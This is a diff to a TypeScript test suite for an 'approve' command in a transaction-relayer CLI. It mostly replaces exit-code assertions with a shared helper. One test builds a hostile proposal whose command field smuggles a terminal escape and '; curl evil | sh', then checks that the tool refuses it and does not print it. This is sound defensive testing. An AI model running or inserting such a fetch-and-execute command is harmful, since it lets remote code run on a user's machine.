@@ -4,6 +4,7 @@ import { parseJson } from "../../../src/contract/json.ts";
 import { createEmbeddedServer } from "../../../src/embedded-server/server.ts";
 import { memoryStore } from "../../../src/embedded-server/state/store.ts";
 import { cli, ends, exits, runHere } from "../../helpers/cli.ts";
+import { exited } from "../../helpers/exited.ts";
 import { manualClock } from "../../helpers/manual-clock.ts";
 import { memoryJournal } from "../../helpers/memory/journal.ts";
 import { seedState } from "../../helpers/seed-state.ts";
@@ -125,8 +126,7 @@ describe("approve", () => {
     const { propose, approve, world } = shared();
     const id = await propose();
     const stored = parseJson(world.proposals?.get(`${id}.json`) ?? "") as { proposal: { body: string } };
-    const ran = await approve(id);
-    expect(ran.exitCode, ran.stderr).toBe(0);
+    const ran = await exited(0, approve(id));
     expect(ran.writes.map(({ method, target, body }) => [method, target, body])).toEqual([
       ["POST", "/api/v1/relayers/eth-main-1/transactions", stored.proposal.body],
     ]);
@@ -189,8 +189,7 @@ describe("approve", () => {
     const { propose, approve, world } = shared();
     const id = await propose();
     const { transport } = lossy(world);
-    const lost = await approve(id, [true], { service: transport });
-    expect(lost.exitCode, lost.stderr).toBe(11);
+    const lost = await exited(11, approve(id, [true], { service: transport }));
     expect(lost.writes).toHaveLength(1);
     expect(await approve(id, [])).toMatchObject({ exitCode: 6, writes: [] });
   });
@@ -211,13 +210,11 @@ describe("approve", () => {
     await propose(SEND, "--out pay.json");
     const text = world.created?.get("pay.json") ?? "";
     const hostile = text.replace(/"command": ".*"/, String.raw`"command": "relayctl tx\u001b[2J\n; curl evil | sh"`);
-    const declined = await approve("evil.json", [false], { files: { "evil.json": hostile } });
-    expect(declined.exitCode).toBe(3);
+    const declined = await exited(3, approve("evil.json", [false], { files: { "evil.json": hostile } }));
     expect(declined.stderr).not.toContain("\u001b[2J");
     expect(declined.stderr).not.toMatch(/^; curl/m);
     await pass(600_000);
-    const late = await approve("evil.json", [], { files: { "evil.json": hostile } });
-    expect(late.exitCode).toBe(6);
+    const late = await exited(6, approve("evil.json", [], { files: { "evil.json": hostile } }));
     expect(late.stderr).not.toContain("curl");
   });
 
@@ -226,8 +223,7 @@ describe("approve", () => {
       const { propose, approve } = shared(context);
       const id = await propose();
       expect(await approve(id, ["eth-main-1"])).toMatchObject({ exitCode: 3, writes: [] });
-      const ran = await approve(id, ["prod"]);
-      expect(ran.exitCode, ran.stderr).toBe(0);
+      const ran = await exited(0, approve(id, ["prod"]));
       expect(ran.writes).toHaveLength(1);
     }
   });
@@ -269,8 +265,7 @@ describe("approve", () => {
     world.proposals?.set(`${id}.json`, text.replace("1000000000", "2000000000"));
     const edited = await approve(id, []);
     expect(edited).toMatchObject({ exitCode: 3, requests: [] });
-    const ran = await approve("pay.json");
-    expect(ran.exitCode, ran.stderr).toBe(0);
+    await exited(0, approve("pay.json"));
     expect((await approve("pay.json")).stderr).toContain("already used");
   });
 
@@ -411,8 +406,7 @@ describe("approve", () => {
   test("refuses an unknown ID and a file that is not a proposal", async () => {
     const { approve } = shared();
     expect((await approve("00000000", [])).exitCode).toBe(5);
-    const other = await approve("other.json", [], { files: { "other.json": '{"proposal":{}}' } });
-    expect(other.exitCode).toBe(2);
+    const other = await exited(2, approve("other.json", [], { files: { "other.json": '{"proposal":{}}' } }));
     expect(other.stderr).toContain("not a proposal");
   });
 });
